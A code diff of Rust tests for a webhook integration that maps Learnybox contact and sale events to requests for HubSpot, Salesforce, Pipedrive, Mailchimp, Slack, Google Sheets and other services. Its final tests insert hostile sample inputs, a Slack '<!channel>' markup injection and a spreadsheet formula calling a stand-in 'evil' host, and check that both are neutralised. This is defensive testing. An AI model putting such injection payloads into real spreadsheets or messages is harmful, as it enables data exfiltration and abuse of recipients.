@@ -120,49 +120,67 @@ fn every_example_passes_check_once_its_variables_are_set() {
 }
 
 #[test]
-fn hubspot_upserts_contacts_by_email_and_records_sales_as_deals() {
+fn hubspot_upserts_contacts_by_email_and_sales_as_deals_keyed_on_the_transaction() {
     let r = render("hubspot", "hubspot-contacts", &contact(), None);
     assert_eq!(r["method"], "POST");
-    assert_eq!(r["url"], "https://api.hubapi.com/crm/v3/objects/contacts/batch/upsert");
+    assert_eq!(r["url"], "https://api.hubapi.com/crm/objects/2026-09/contacts/batch/upsert");
     assert_eq!(r["headers"]["Authorization"], "***");
     let input = &r["body"]["inputs"][0];
-    assert_eq!(input["idProperty"], "email");
-    assert_eq!(input["id"], "jj@example.org");
-    assert_eq!(input["properties"]["firstname"], "Jean");
+    assert_eq!((input["idProperty"].as_str(), input["id"].as_str()), (Some("email"), Some("jj@example.org")));
     assert_eq!(input["properties"]["lastname"], "O'Connor");
-    let answers = json!({"contact": {"status": 200, "body": {"results": [{"id": "901"}]}}});
+    assert!(input["properties"].get("phone").is_none(), "no phone in the event: none sent, HubSpot's kept");
+    let answers = json!({"contact": {"status": 200, "body": {"results": [{"id": "901"}]}},
+                         "deal": {"status": 200, "body": {"results": [{"id": "77"}]}}});
     let sale = render("hubspot", "hubspot-sales", &sale(), Some(answers));
     let deal = step(&sale, "deal");
-    assert_eq!(deal["url"], "https://api.hubapi.com/crm/v3/objects/deals");
-    assert_eq!(deal["body"]["properties"]["amount"], "97.5");
-    assert_eq!(deal["body"]["properties"]["deal_currency_code"], "EUR");
-    assert_eq!(deal["body"]["properties"]["dealstage"], "closedwon");
-    assert_eq!(deal["body"]["properties"]["dealname"], "Formation « Vendre » (TX-1)");
-    assert_eq!(deal["body"]["associations"][0]["to"]["id"], "901");
-    assert_eq!(deal["body"]["associations"][0]["types"][0]["associationTypeId"], 3);
+    assert_eq!(deal["url"], "https://api.hubapi.com/crm/objects/2026-09/deals/batch/upsert");
+    let input = &deal["body"]["inputs"][0];
+    assert_eq!((input["idProperty"].as_str(), input["id"].as_str()), (Some("lbx_transaction_id"), Some("TX-1")));
+    assert_eq!(input["properties"]["amount"], "97.5");
+    assert_eq!(input["properties"]["dealstage"], "closedwon");
+    assert_eq!(
+        step(&sale, "associate")["url"],
+        "https://api.hubapi.com/crm/objects/2026-09/deals/77/associations/default/contacts/901"
+    );
+    let mut unsub = contact();
+    unsub["event"] = "contact.unsubscribed".into();
+    let u = render("hubspot", "hubspot-unsubscribes", &unsub, None);
+    assert_eq!(
+        u["url"],
+        "https://api.hubapi.com/communication-preferences/2026-09/statuses/jj%40example.org/unsubscribe-all?channel=EMAIL"
+    );
+    assert_eq!(u["body"], Value::Null);
 }
 
 #[test]
-fn brevo_creates_or_updates_the_contact_in_a_list() {
+fn brevo_creates_or_updates_the_contact_in_a_list_and_blocklists_unsubscribes() {
     let r = render("brevo", "brevo-contacts", &sale(), None);
     assert_eq!((r["method"].as_str(), r["url"].as_str()), (Some("POST"), Some("https://api.brevo.com/v3/contacts")));
     assert_eq!(r["headers"]["api-key"], "***");
     assert_eq!(r["body"]["email"], "zoe.lefevre@example.com");
     assert_eq!(r["body"]["attributes"]["FIRSTNAME"], "Zoë \"Z\"");
-    assert_eq!(r["body"]["attributes"]["LASTNAME"], "Lefèvre");
-    assert_eq!(r["body"]["updateEnabled"], true);
-    assert_eq!(r["body"]["listIds"], json!([2]));
+    assert_eq!((r["body"]["updateEnabled"].as_bool(), &r["body"]["listIds"]), (Some(true), &json!([2])));
+    let mut unsub = contact();
+    unsub["event"] = "contact.marked_as_spam".into();
+    let u = render("brevo", "brevo-unsubscribes", &unsub, None);
+    assert_eq!(u["body"], json!({"email": "jj@example.org", "emailBlacklisted": true, "updateEnabled": true}));
 }
 
 #[test]
-fn activecampaign_syncs_the_contact() {
-    let r = render("activecampaign", "activecampaign-contacts", &sale(), None);
-    assert_eq!(r["method"], "POST");
-    assert_eq!(r["url"], "https://acme.api-us1.com/api/3/contact/sync");
-    assert_eq!(r["headers"]["Api-Token"], "***");
-    let c = &r["body"]["contact"];
-    assert_eq!((c["email"].as_str(), c["firstName"].as_str()), (Some("zoe.lefevre@example.com"), Some("Zoë \"Z\"")));
-    assert_eq!((c["lastName"].as_str(), c["phone"].as_str()), (Some("Lefèvre"), Some("+33 6 12 34 56 78")));
+fn activecampaign_syncs_the_contact_then_its_list_status() {
+    let answers = json!({"sync": {"status": 201, "body": {"contact": {"id": "55"}}}});
+    let r = render("activecampaign", "activecampaign-contacts", &contact(), Some(answers.clone()));
+    let sync = step(&r, "sync");
+    assert_eq!(sync["url"], "https://acme.api-us1.com/api/3/contact/sync");
+    assert_eq!(sync["headers"]["Api-Token"], "***");
+    assert_eq!(sync["body"]["contact"]["lastName"], "O'Connor");
+    let list = step(&r, "list");
+    assert_eq!(list["sent"], true);
+    assert_eq!(list["body"], json!({"contactList": {"list": "3", "contact": "55", "status": 1}}));
+    let mut unsub = contact();
+    unsub["event"] = "contact.unsubscribed".into();
+    let u = render("activecampaign", "activecampaign-unsubscribes", &unsub, Some(answers));
+    assert_eq!(step(&u, "list")["body"]["contactList"]["status"], 2);
 }
 
 #[test]
@@ -176,75 +194,99 @@ fn mailchimp_puts_the_member_at_the_md5_of_its_lowercase_email_then_tags_it() {
     assert_eq!(member["method"], "PUT");
     assert_eq!(member["url"], format!("https://us21.api.mailchimp.com/3.0/lists/a1b2c3/members/{expected_hash}"));
     assert!(member["headers"]["Authorization"] == "***", "basic auth, masked");
-    assert_eq!(member["body"]["email_address"], "zoe.lefevre@example.com");
     assert_eq!(member["body"]["status_if_new"], "subscribed");
-    assert_eq!(member["body"]["merge_fields"]["FNAME"], "Zoë \"Z\"");
     let tags = step(&r, "tags");
-    assert_eq!(tags["sent"], true);
-    assert_eq!(tags["url"], format!("https://us21.api.mailchimp.com/3.0/lists/a1b2c3/members/{expected_hash}/tags"));
     assert_eq!(
         tags["body"]["tags"],
         json!([{"name": "client", "status": "active"}, {"name": "webinar", "status": "active"}])
     );
-    assert_eq!(step(&render("mailchimp", "mailchimp-members", &contact(), None), "tags")["sent"], false);
+    let mut removed = contact();
+    removed["event"] = "contact.tag_removed".into();
+    removed["data"]["tag"] = json!({"name": "VIP"});
+    let t = step(&render("mailchimp", "mailchimp-members", &removed, None), "tags").clone();
+    assert_eq!(t["body"]["tags"], json!([{"name": "VIP", "status": "inactive"}]));
     let mut unsub = contact();
     unsub["event"] = "contact.unsubscribed".into();
     let u = render("mailchimp", "mailchimp-unsubscribes", &unsub, None);
-    assert_eq!(u["method"], "PATCH");
-    assert_eq!(u["body"], json!({"status": "unsubscribed"}));
+    assert_eq!((u["method"].as_str(), &u["body"]), (Some("PATCH"), &json!({"status": "unsubscribed"})));
 }
 
 #[test]
-fn salesforce_upserts_by_external_id_with_patch_and_an_oauth_token() {
-    let r = render("salesforce", "salesforce-contacts", &contact(), None);
-    assert_eq!(r["method"], "PATCH");
+fn salesforce_updates_without_placeholders_and_creates_only_what_it_did_not_find() {
+    let found = json!({"contact_update": {"status": 200, "body": {"id": "003A", "created": false}}});
+    let r = render("salesforce", "salesforce-contacts", &contact(), Some(found));
+    let update = step(&r, "contact_update");
+    assert_eq!(update["method"], "PATCH");
     assert_eq!(
-        r["url"],
-        "https://acme.my.salesforce.com/services/data/v60.0/sobjects/Contact/Learnybox_Email__c/jj%40example.org"
+        update["url"],
+        "https://acme.my.salesforce.com/services/data/v68.0/sobjects/Contact/Learnybox_Email__c/jj%40example.org?updateOnly=true"
     );
-    assert_eq!(r["headers"]["Authorization"], "***");
-    assert_eq!(r["body"]["LastName"], "O'Connor");
-    assert_eq!(r["body"]["Email"], "jj@example.org");
-    assert!(r["body"].get("Learnybox_Email__c").is_none(), "the external id travels in the URL only");
+    assert_eq!(update["headers"]["Authorization"], "***");
+    assert_eq!(update["body"], json!({"FirstName": "Jean", "LastName": "O'Connor", "Email": "jj@example.org"}));
+    assert_eq!(step(&r, "contact_create")["sent"], false);
+    let mut nameless = contact();
+    nameless["data"]["contact"] = json!({"email": "new@example.org"});
+    let missing = json!({"contact_update": {"status": 404, "body": [{"errorCode": "NOT_FOUND"}]}});
+    let r = render("salesforce", "salesforce-contacts", &nameless, Some(missing));
+    assert_eq!(step(&r, "contact_update")["body"], json!({"Email": "new@example.org"}), "no placeholder on update");
+    let create = step(&r, "contact_create");
+    assert_eq!(create["sent"], true);
+    assert_eq!(create["body"]["LastName"], "(Learnybox)", "the placeholder only where Salesforce requires it");
+    assert_eq!(create["body"]["LeadSource"], "Learnybox");
+    let answers = json!({"contact_update": {"status": 200, "body": {"id": "003A"}},
+                         "opportunity_update": {"status": 404, "body": [{"errorCode": "NOT_FOUND"}]}});
+    let s = render("salesforce", "salesforce-sales", &sale(), Some(answers));
+    let opp = step(&s, "opportunity_create");
+    assert_eq!(
+        opp["url"],
+        "https://acme.my.salesforce.com/services/data/v68.0/sobjects/Opportunity/Learnybox_Transaction_Id__c/TX-1"
+    );
+    assert_eq!(
+        (opp["body"]["StageName"].as_str(), opp["body"]["ContactId"].as_str()),
+        (Some("Closed Won"), Some("003A"))
+    );
 }
 
 #[test]
-fn pipedrive_searches_then_creates_or_updates_then_adds_the_deal() {
-    let none = render(
-        "pipedrive",
-        "pipedrive-persons",
-        &sale(),
-        Some(json!({"search": {"status": 200, "body": {"data": {"items": []}}}})),
-    );
-    let search = step(&none, "search");
-    assert_eq!(search["method"], "GET");
+fn pipedrive_uses_api_v2_and_keys_deals_on_the_transaction_field() {
+    let none = json!({"search": {"status": 200, "body": {"data": {"items": []}}},
+                      "create": {"status": 201, "body": {"data": {"id": 42}}},
+                      "deal_search": {"status": 200, "body": {"data": {"items": []}}}});
+    let r = render("pipedrive", "pipedrive", &sale(), Some(none));
+    let search = step(&r, "search");
     assert_eq!(
         search["url"],
-        "https://api.pipedrive.com/v1/persons/search?term=zoe.lefevre%40example.com&fields=email&exact_match=true&limit=1"
+        "https://api.pipedrive.com/api/v2/persons/search?term=zoe.lefevre%40example.com&fields=email&exact_match=true&limit=1"
     );
     assert_eq!(search["headers"]["x-api-token"], "***");
-    assert_eq!(
-        (step(&none, "create")["sent"].as_bool(), step(&none, "update")["sent"].as_bool()),
-        (Some(true), Some(false))
-    );
-    let create = step(&none, "create");
+    let create = step(&r, "create");
     assert_eq!(create["body"]["name"], "Zoë \"Z\" Lefèvre");
-    assert_eq!(create["body"]["email"][0]["value"], "zoe.lefevre@example.com");
-    assert_eq!(create["body"]["phone"][0]["value"], "+33 6 12 34 56 78");
-
-    let found = json!({"search": {"status": 200, "body": {"data": {"items": [{"item": {"id": 42}}]}}}});
-    let found = render("pipedrive", "pipedrive-persons", &sale(), Some(found));
+    assert_eq!(create["body"]["emails"][0]["value"], "zoe.lefevre@example.com");
+    let deal = step(&r, "deal_create");
+    assert_eq!(deal["url"], "https://api.pipedrive.com/api/v2/deals");
+    assert_eq!((deal["body"]["person_id"].as_i64(), deal["body"]["status"].as_str()), (Some(42), Some("won")));
+    assert_eq!(deal["body"]["custom_fields"]["8f4e1c2b9a7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f"], "TX-1");
+    let found = json!({"search": {"status": 200, "body": {"data": {"items": [{"item": {"id": 42}}]}}},
+                       "deal_search": {"status": 200, "body": {"data": {"items": [{"item": {"id": 9}}]}}}});
+    let mut refund = sale();
+    refund["event"] = "transaction.refunded".into();
+    let r = render("pipedrive", "pipedrive", &refund, Some(found));
     assert_eq!(
-        (step(&found, "create")["sent"].as_bool(), step(&found, "update")["sent"].as_bool()),
-        (Some(false), Some(true))
+        (step(&r, "update")["method"].as_str(), step(&r, "create")["sent"].as_bool()),
+        (Some("PATCH"), Some(false))
     );
-    assert_eq!(step(&found, "update")["method"], "PUT");
-    assert_eq!(step(&found, "update")["url"], "https://api.pipedrive.com/v1/persons/42");
-    let deal = step(&found, "deal");
-    assert_eq!(deal["body"]["person_id"], 42);
-    assert_eq!(deal["body"]["value"], 97.5);
-    assert_eq!(deal["body"]["currency"], "EUR");
-    assert_eq!(step(&render("pipedrive", "pipedrive-persons", &contact(), None), "deal")["sent"], false);
+    let update = step(&r, "deal_update");
+    assert_eq!(update["url"], "https://api.pipedrive.com/api/v2/deals/9");
+    assert_eq!(update["body"]["status"], "lost");
+    let mut unsub = contact();
+    unsub["event"] = "contact.unsubscribed".into();
+    let u = render(
+        "pipedrive",
+        "pipedrive",
+        &unsub,
+        Some(json!({"search": {"status": 200, "body": {"data": {"items": [{"item": {"id": 42}}]}}}})),
+    );
+    assert_eq!(step(&u, "update")["body"]["marketing_status"], "unsubscribed");
 }
 
 #[test]
@@ -261,62 +303,60 @@ fn systemeio_creates_and_on_422_finds_and_merge_patches() {
         (Some("POST"), Some("https://api.systeme.io/api/contacts"))
     );
     assert_eq!(create["headers"]["X-API-Key"], "***");
-    assert_eq!(create["body"]["email"], "jj@example.org");
-    assert_eq!(create["body"]["fields"][0], json!({"slug": "first_name", "value": "Jean"}));
+    assert_eq!(
+        create["body"]["fields"],
+        json!([{"slug": "first_name", "value": "Jean"}, {"slug": "surname", "value": "O'Connor"}])
+    );
     assert_eq!(step(&fresh, "search")["sent"], false);
     let taken =
         json!({"create": {"status": 422, "body": {}}, "search": {"status": 200, "body": {"items": [{"id": 77}]}}});
     let taken = render("systemeio", "systemeio-contacts", &contact(), Some(taken));
     assert_eq!(step(&taken, "search")["url"], "https://api.systeme.io/api/contacts?email=jj%40example.org");
     let update = step(&taken, "update");
-    assert_eq!((update["method"].as_str(), update["sent"].as_bool()), (Some("PATCH"), Some(true)));
     assert_eq!(update["url"], "https://api.systeme.io/api/contacts/77");
     assert_eq!(update["headers"]["Content-Type"], "application/merge-patch+json");
-    assert_eq!(update["body"]["fields"][1], json!({"slug": "surname", "value": "O'Connor"}));
 }
 
 #[test]
-fn automation_hooks_get_the_contact_and_the_sale() {
+fn automation_hooks_get_the_contact_and_the_sale_without_empty_values() {
     let z = render("zapier", "zapier", &sale(), None);
+    assert_eq!(z["url"], "https://hooks.zapier.com/hooks/catch/123/abc/");
     assert_eq!(
-        (z["method"].as_str(), z["url"].as_str()),
-        (Some("POST"), Some("https://hooks.zapier.com/hooks/catch/123/abc/"))
+        (z["body"]["email"].as_str(), z["body"]["tags"].as_str()),
+        (Some("zoe.lefevre@example.com"), Some("client, webinar"))
     );
-    assert_eq!(z["body"]["email"], "zoe.lefevre@example.com");
-    assert_eq!(z["body"]["first_name"], "Zoë \"Z\"");
-    assert_eq!(z["body"]["tags"], "client, webinar");
     assert_eq!(z["body"]["amount"], 97.5);
-    assert_eq!(z["body"]["product"], "Formation « Vendre »");
+    let zc = render("zapier", "zapier", &contact(), None);
+    assert!(zc["body"].get("phone").is_none() && zc["body"].get("amount").is_none(), "{}", zc["body"]);
     let m = render("make", "make", &sale(), None);
-    assert_eq!(m["url"], "https://hook.eu1.make.com/xyz");
-    assert_eq!(m["body"]["contact"]["tags"], json!(["client", "webinar"]));
     assert_eq!(m["body"]["sale"]["amount"], 97.5);
     assert_eq!(m["body"]["raw"], sale());
-    assert_eq!(render("make", "make", &contact(), None)["body"]["sale"], Value::Null);
+    assert!(render("make", "make", &contact(), None)["body"].get("sale").is_none());
     let n = render("n8n", "n8n", &contact(), None);
-    assert_eq!(n["url"], "https://n8n.example.com/webhook/learnybox");
     assert_eq!(n["body"]["contact"]["last_name"], "O'Connor");
-    assert_eq!(n["body"]["data"], contact());
 }
 
 #[test]
-fn slack_gets_one_line_of_text() {
-    let s = render("slack", "slack", &sale(), None);
-    assert_eq!(s["url"], "https://hooks.slack.com/services/T0/B0/secret");
+fn slack_text_shows_contact_data_as_typed_never_as_markup() {
+    let mut hostile = sale();
+    hostile["data"]["contact"]["prenom"] = json!("<!channel> & co");
+    let s = render("slack", "slack", &hostile, None);
     assert_eq!(s["body"].as_object().unwrap().len(), 1, "only text");
     let text = s["body"]["text"].as_str().unwrap();
-    assert!(text.contains("97.5 eur") && text.contains("Formation « Vendre »"), "{text}");
-    assert!(text.contains("zoe.lefevre@example.com"), "{text}");
+    assert!(text.contains("&lt;!channel&gt; &amp; co"), "{text}");
+    assert!(text.contains("(zoe.lefevre@example.com)") && !text.contains("<zoe"), "{text}");
 }
 
 #[test]
-fn google_sheets_appends_a_row() {
-    let g = render("google-sheets", "google-sheets", &sale(), None);
+fn google_sheets_rows_never_carry_a_formula() {
+    let mut hostile = sale();
+    hostile["data"]["contact"]["prenom"] = json!("=IMPORTXML(\"https://evil\")");
+    hostile["data"]["contact"]["telephone"] = json!("+33 6 12 34 56 78");
+    let g = render("google-sheets", "google-sheets", &hostile, None);
     assert_eq!(g["url"], "https://script.google.com/macros/s/abc/exec");
-    assert_eq!(g["body"]["sheet"], "Learnybox");
-    let row = g["body"]["row"].as_array().unwrap();
-    assert_eq!(row[1], "transaction.created");
-    assert_eq!(row[3], "zoe.lefevre@example.com");
-    assert_eq!(row[7], 97.5);
-    assert_eq!(row[9], "Formation « Vendre »");
+    let row = &g["body"]["row"];
+    assert_eq!(row["first_name"], "'=IMPORTXML(\"https://evil\")");
+    assert_eq!(row["phone"], "'+33 6 12 34 56 78");
+    assert_eq!((row["email"].as_str(), row["amount"].as_f64()), (Some("zoe.lefevre@example.com"), Some(97.5)));
+    assert_eq!(row["products"], "Formation « Vendre »");
 }
